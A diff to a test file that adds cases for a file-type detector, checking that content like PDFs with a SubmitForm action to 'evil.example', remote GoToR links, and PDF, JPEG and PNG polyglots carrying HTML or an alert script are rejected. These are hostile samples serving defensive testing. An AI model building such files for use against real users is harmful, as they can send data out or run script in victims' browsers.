@@ -32,6 +32,16 @@ test.each([
     '%PDF-1.7\n4 0 obj << >> stream\n<< /S /JavaScript >>\nendstream endobj',
     undefined,
   ],
+  ['a document that sends a form', '%PDF-1.7 << /S /SubmitForm /F (http://evil.example) >>', undefined],
+  ['a document that opens another machine', '%PDF-1.7 << /S /GoToR /F (//evil/share/a.pdf) >>', undefined],
+  ['a document that is a page to a browser', '%PDF-1.4\n<script>alert(1)</script>', undefined],
+  ['a photograph that is a page to a browser', '\xff\xd8\xff\xe0 JFIF <HTML><body>', undefined],
+  ['a picture that is a page to a browser', '\x89PNG\r\n\x1a\n<!doctype html>', undefined],
+  [
+    'a document that opens at a page',
+    '%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction [3 0 R /Fit] >> endobj',
+    'pdf',
+  ],
   ['a closed document', '%PDF-1.7 trailer << /Encrypt 5 0 R >>', undefined],
 ] as const)('[D12] %s is known by its content', (_, content, kind) => {
   expect(evidenceKind(bytes(content))).toBe(kind)
